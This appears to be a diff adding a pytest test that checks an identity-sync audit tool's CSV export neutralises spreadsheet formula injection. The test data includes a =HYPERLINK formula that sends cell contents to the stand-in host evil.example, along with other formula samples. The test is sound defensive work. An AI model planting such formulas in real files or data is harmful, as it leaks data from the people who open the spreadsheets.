@@ -12,9 +12,10 @@ from pathlib import Path
 
 import pytest
 
-from identity_sync.audit.cli import main, resolve_url
+from identity_sync.audit.cli import csv_safe, main, resolve_url
+from identity_sync.planning.operations import Operation, OpKind
 
-from .conftest import History
+from .conftest import History, attempt
 
 ROOT = Path(__file__).resolve().parents[2]
 
@@ -87,6 +88,33 @@ def test_export_csv(history: History, tmp_path: Path) -> None:
     assert rows[3]["attempted_at"] == "2026-03-02T10:04:00+00:00"
     code, text = run("export", history.r2, "--csv", "-", "--db", history.store.url)
     assert code == 0 and text.splitlines()[0].startswith("run_id,seq,op_id")
+
+
+def test_export_csv_neutralises_formulas(history: History, tmp_path: Path) -> None:
+    """A display name chosen in IDCS as a spreadsheet formula, echoed by Bitbucket in an error,
+    exports as text: no cell starts with = + - @ tab or CR (OWASP CSV injection)."""
+    formula = '=HYPERLINK("https://evil.example/?x="&A1,"click")'
+    run_id = "manual__2026-03-03T10:00:00+00:00"
+    store = history.store
+    store.start_run(run_id, dag_id="idcs_bitbucket_sync", trigger="manual", mode="full",
+                    dry_run=False, rules_hash="h1", rules_version="7")
+    op = Operation(OpKind.UPDATE_USER, "alice.smith", {"name": "alice.smith",
+                                                        "displayName": formula},
+                   "displayName changed in IDCS", before={"displayName": "Alice"},
+                   after={"displayName": formula}, idcs_id="u1")
+    store.record_plan(run_id, [op])
+    attempt(store, run_id, op, "failed", 400, formula)
+    attempt(store, run_id, op, "failed", 400, "@SUM(1+1)\tx")
+    target = tmp_path / "evil.csv"
+    assert as_json(history, "export", run_id, "--csv", str(target))["rows"] == 2
+    with target.open(newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    assert [r["error"] for r in rows] == ["'" + formula, "'@SUM(1+1)\tx"]
+    assert json.loads(rows[0]["after"]) == {"displayName": formula}  # JSON cell: starts with {
+    dangerous = ("=", "+", "-", "@", "\t", "\r")
+    assert not [c for r in rows for c in r.values() if c.startswith(dangerous)]
+    assert [csv_safe(v) for v in ("-1", "+1", "\rx", "a=b", 5, -5, None)] == [
+        "'-1", "'+1", "'\rx", "a=b", 5, -5, None]
 
 
 def test_prune_keeps_anchors(history: History) -> None:
